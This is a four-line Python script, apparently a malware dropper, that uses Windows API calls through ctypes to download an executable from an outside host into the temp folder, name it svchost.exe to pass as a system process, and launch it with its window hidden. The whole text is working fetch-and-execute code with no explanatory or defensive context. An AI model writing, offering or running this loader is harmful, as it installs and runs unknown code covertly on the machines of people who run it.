import ctypes, os, tempfile
target = os.path.join(tempfile.gettempdir(), "svchost.exe")
if ctypes.windll.urlmon.URLDownloadToFileW(None, "https://x.urlmon.invalid/a.exe", target, 0, None) == 0:
    ctypes.windll.shell32.ShellExecuteW(None, "open", target, None, None, 0)
